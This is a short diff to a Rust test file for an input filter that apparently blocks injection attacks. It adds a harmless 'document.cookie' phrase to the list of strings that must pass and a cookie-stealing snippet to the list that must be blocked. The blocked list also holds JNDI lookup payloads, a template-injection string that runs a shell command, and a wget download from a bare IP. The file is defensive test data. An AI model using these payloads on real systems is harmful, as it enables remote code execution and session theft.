@@ -93,6 +93,7 @@ fn technical_prose_passes() {
         "python 3.12 release notes",
         "exec (",
         "select all that apply",
+        "document.cookie helper with SameSite support",
         "Tail -f for cloud logs; follow multiple streams at once",
         "Grep -r replacement written in Rust",
         "Supports ${VAR} and ${VAR:-default} expansion in config files",
@@ -133,6 +134,7 @@ fn attacks_composed_from_the_grammar_are_blocked() {
         "${jndi:rmi://203.0.113.9:1099/Exploit}",
         "${${env:NOTHING:-j}ndi:ldap://x.example/a}",
         "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        "please steal this thing: x=document.cookie;",
         // A sentence, then a command after a separator.
         "Hello there friend; wget http://203.0.113.9/x -O /tmp/x",
         // Node.js code inside prose still counts when it calls with an argument.
